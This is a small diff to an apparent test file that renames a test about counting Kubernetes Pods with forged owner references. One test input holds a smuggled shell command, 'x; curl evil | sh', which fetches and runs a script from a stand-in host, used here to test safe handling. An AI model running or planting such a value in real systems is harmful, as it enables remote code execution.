@@ -30,7 +30,7 @@ it('counts Pods and workloads, and a Deployment once during a rollout', () => {
   })
 })
 
-it('counts a Pod whose owner no controller can be as a Pod of its own', () => {
+it('counts a Pod with a forged owner as a Pod without a controller', () => {
   const users = countUsers()
   users.add(pod('a', ['ReplicaSet', 'x'.repeat(1_000_000)]), ['/logging'])
   users.add(pod('b', ['ReplicaSet', 'x; curl evil | sh']), ['/logging'])
